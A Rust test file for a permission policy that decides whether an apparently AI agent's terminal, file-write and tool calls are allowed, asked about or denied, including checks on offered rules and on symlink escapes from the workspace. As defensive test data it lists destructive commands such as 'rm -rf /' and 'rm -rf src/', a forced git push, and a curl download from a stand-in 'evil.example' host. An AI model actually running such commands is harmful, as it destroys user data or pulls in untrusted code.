//! Runs every case of `tests/cases.json` through [`Policy::check`] and
//! reports all mismatches at once.
//!
//! A case: `{"mode", "tool", "args", "cwd"?, "decision", "rule"?,
//! "confine"?, "network"?, "allow_rule"?, "note", "allow"?,
//! "allow_network"?, "ask"?, "deny"?, "project_ask"?, "project_deny"?,
//! "writable_roots"?, "read_only_tools"?, "sandbox_available"? (default
//! true), "read_only"? (default false)}`.
//! The home directory is `/home/user`; the default working directory is
//! `/work/project` (neither needs to exist).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};

use herald_permissions::{CallInfo, Decision, Mode, Policy, PolicyConfig};
use serde::Deserialize;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    mode: Mode,
    tool: String,
    args: serde_json::Value,
    #[serde(default)]
    cwd: Option<String>,
    decision: Decision,
    #[serde(default)]
    rule: Option<String>,
    #[serde(default)]
    confine: Option<bool>,
    note: String,
    #[serde(default)]
    allow: Vec<String>,
    #[serde(default)]
    allow_network: Vec<String>,
    #[serde(default)]
    network: Option<bool>,
    /// The rule an approval would save: a string, or `null` for none.
    #[serde(default = "unchecked")]
    allow_rule: serde_json::Value,
    #[serde(default)]
    ask: Vec<String>,
    #[serde(default)]
    deny: Vec<String>,
    #[serde(default)]
    project_ask: Vec<String>,
    #[serde(default)]
    project_deny: Vec<String>,
    #[serde(default)]
    writable_roots: Vec<PathBuf>,
    #[serde(default)]
    read_only_tools: Vec<String>,
    #[serde(default)]
    sandbox_available: Option<bool>,
    #[serde(default)]
    read_only: bool,
}

/// `allow_rule` absent: not checked.
fn unchecked() -> serde_json::Value {
    serde_json::Value::Bool(false)
}

fn load() -> Vec<Case> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases.json");
    let text = std::fs::read_to_string(&path).unwrap();
    serde_json::from_str(&text).unwrap()
}

#[test]
fn every_case_in_cases_json_decides_as_expected() {
    let cases = load();
    assert!(cases.len() >= 220, "only {} cases", cases.len());
    let mut failures = Vec::new();
    for (i, c) in cases.iter().enumerate() {
        let policy = match Policy::new(PolicyConfig {
            mode: c.mode,
            allow: c.allow.clone(),
            allow_network: c.allow_network.clone(),
            ask: c.ask.clone(),
            deny: c.deny.clone(),
            project_ask: c.project_ask.clone(),
            project_deny: c.project_deny.clone(),
            writable_roots: c.writable_roots.clone(),
            home: Some(PathBuf::from("/home/user")),
            sandbox_available: c.sandbox_available.unwrap_or(true),
            read_only_tools: c.read_only_tools.clone(),
        }) {
            Ok(p) => p,
            Err(e) => {
                failures.push(format!("#{i} {}: policy: {e}", c.note));
                continue;
            }
        };
        let cwd = PathBuf::from(c.cwd.as_deref().unwrap_or("/work/project"));
        let v = policy.check(&CallInfo {
            tool: &c.tool,
            args: &c.args,
            cwd: &cwd,
            read_only: c.read_only,
        });
        let mut wrong = Vec::new();
        if v.decision != c.decision {
            wrong.push(format!(
                "decision {} (want {})",
                v.decision.as_str(),
                c.decision.as_str()
            ));
        }
        if let Some(rule) = &c.rule
            && v.rule.as_deref() != Some(rule.as_str())
        {
            wrong.push(format!("rule {:?} (want {rule:?})", v.rule));
        }
        if let Some(confine) = c.confine
            && v.confine != confine
        {
            wrong.push(format!("confine {} (want {confine})", v.confine));
        }
        if let Some(network) = c.network
            && v.network != network
        {
            wrong.push(format!("network {} (want {network})", v.network));
        }
        let want_rule = match &c.allow_rule {
            serde_json::Value::Null => Some(None),
            serde_json::Value::String(s) => Some(Some(s.as_str())),
            _ => None,
        };
        if let Some(want) = want_rule
            && v.allow_rule.as_deref() != want
        {
            wrong.push(format!("allow_rule {:?} (want {want:?})", v.allow_rule));
        }
        if v.reason.trim().is_empty() {
            wrong.push("empty reason".into());
        }
        if !wrong.is_empty() {
            failures.push(format!(
                "#{i} [{}] {} {}: {}: {}\n      got: {} / {:?} / {}",
                c.mode,
                c.tool,
                c.args,
                c.note,
                wrong.join(", "),
                v.decision.as_str(),
                v.rule,
                v.reason
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

#[test]
fn the_offered_rule_allows_the_asked_call_and_nothing_more() {
    // An `ask` offers the narrowest rule; adding it lets that call run,
    // and only that call.
    for (cmd, other) in [
        ("git push origin main", "git push --force origin main"),
        (
            "curl -sSL https://example.com/x -o x.tar",
            "curl -sSL https://evil.example/x -o x.tar",
        ),
        ("npm install left-pad", "npm install left-pad-evil"),
        ("rm -rf build/", "rm -rf src/"),
        ("ls *.txt && rm -rf build", "ls *.txt && rm -rf src"),
        (
            "find . -name '*.o' -exec rm {} +",
            "find . -name '*.c' -exec rm {} +",
        ),
    ] {
        let mut policy = Policy::new(PolicyConfig {
            home: Some(PathBuf::from("/home/user")),
            sandbox_available: true,
            ..PolicyConfig::default()
        })
        .unwrap();
        let check = |policy: &Policy, command: &str| {
            let args = serde_json::json!({ "command": command });
            policy.check(&CallInfo {
                tool: "terminal",
                args: &args,
                cwd: Path::new("/work/project"),
                read_only: false,
            })
        };
        let v = check(&policy, cmd);
        assert_eq!(v.decision, Decision::Ask, "{cmd}: {v:?}");
        let rule = v.allow_rule.clone().expect("a rule to offer");
        policy.add_allow(&rule).unwrap();
        let v2 = check(&policy, cmd);
        assert_eq!(v2.decision, Decision::Allow, "{cmd} after {rule}: {v2:?}");
        assert_eq!(v2.rule.as_deref(), Some(rule.as_str()));
        let v3 = check(&policy, other);
        assert_eq!(v3.decision, Decision::Ask, "{other} after {rule}: {v3:?}");
    }
}

#[test]
fn offered_rules_name_the_call_exactly() {
    let policy = Policy::new(PolicyConfig {
        home: Some(PathBuf::from("/home/user")),
        sandbox_available: true,
        ..PolicyConfig::default()
    })
    .unwrap();
    let check = |tool: &str, args: serde_json::Value| {
        policy.check(&CallInfo {
            tool,
            args: &args,
            cwd: Path::new("/work/project"),
            read_only: false,
        })
    };
    let rule = |tool: &str, args: serde_json::Value| check(tool, args).allow_rule;
    assert_eq!(
        rule(
            "terminal",
            serde_json::json!({"command": "git push --force origin main"})
        )
        .as_deref(),
        Some("terminal(git push --force origin main)")
    );
    assert_eq!(
        rule("terminal", serde_json::json!({"command": "rm -rf build/"})).as_deref(),
        Some("terminal(rm -rf build/)")
    );
    assert_eq!(
        rule(
            "terminal",
            serde_json::json!({"command": "  sudo apt-get install -y jq  "})
        )
        .as_deref(),
        Some("terminal(sudo apt-get install -y jq)")
    );
    assert_eq!(
        rule(
            "terminal",
            serde_json::json!({"command": "rm -rf {a,b}/*.o"})
        )
        .as_deref(),
        Some("terminal(rm -rf [{]a,b[}]/[*].o)")
    );
    assert_eq!(
        rule(
            "write_file",
            serde_json::json!({"path": "/opt/app/config.toml"})
        )
        .as_deref(),
        Some("write_file(/opt/app/config.toml)")
    );
    assert_eq!(
        rule("mcp__fs__write", serde_json::json!({})).as_deref(),
        Some("mcp__fs__write([{][}])")
    );
    // Nothing to offer: the floor, what the check cannot see.
    assert_eq!(
        rule("terminal", serde_json::json!({"command": "rm -rf /"})),
        None
    );
    assert_eq!(
        rule("terminal", serde_json::json!({"command": "$CMD x"})),
        None
    );
}

#[test]
fn invalid_rules_fail_policy_new() {
    for bad in ["terminal(", "write_file([)", "bad name(x)", "terminal()"] {
        let e = Policy::new(PolicyConfig {
            deny: vec!["terminal(ok*)".into(), bad.into()],
            ..PolicyConfig::default()
        })
        .unwrap_err();
        assert_eq!(e.rule, bad);
        assert!(!e.why.is_empty());
    }
    let mut p = Policy::new(PolicyConfig::default()).unwrap();
    assert!(p.add_allow("terminal(").is_err());
}

#[test]
fn symlinked_escape_from_the_workspace_asks() {
    let dir = tempfile::tempdir_in(herald_testkit::dir_outside_temp(Path::new(env!(
        "CARGO_TARGET_TMPDIR"
    ))))
    .unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    let ws = root.join("ws");
    let outside = root.join("outside");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, ws.join("out")).unwrap();
    let policy = Policy::new(PolicyConfig {
        home: Some(PathBuf::from("/home/user")),
        sandbox_available: true,
        ..PolicyConfig::default()
    })
    .unwrap();
    let check = |tool: &str, args: serde_json::Value| {
        policy.check(&CallInfo {
            tool,
            args: &args,
            cwd: &ws,
            read_only: false,
        })
    };
    let v = check("write_file", serde_json::json!({"path": "out/x.txt"}));
    assert_eq!(v.decision, Decision::Ask, "{v:?}");
    assert_eq!(v.rule.as_deref(), Some("outside-workspace"));
    let v = check("write_file", serde_json::json!({"path": "in/x.txt"}));
    assert_eq!(v.decision, Decision::Allow, "{v:?}");
    let v = check(
        "terminal",
        serde_json::json!({"command": "echo hi > out/x.txt"}),
    );
    assert_eq!(v.decision, Decision::Ask, "{v:?}");
    let v = check(
        "terminal",
        serde_json::json!({"command": "echo hi > x.txt"}),
    );
    assert_eq!(v.decision, Decision::Allow, "{v:?}");
    assert!(v.confine);
}
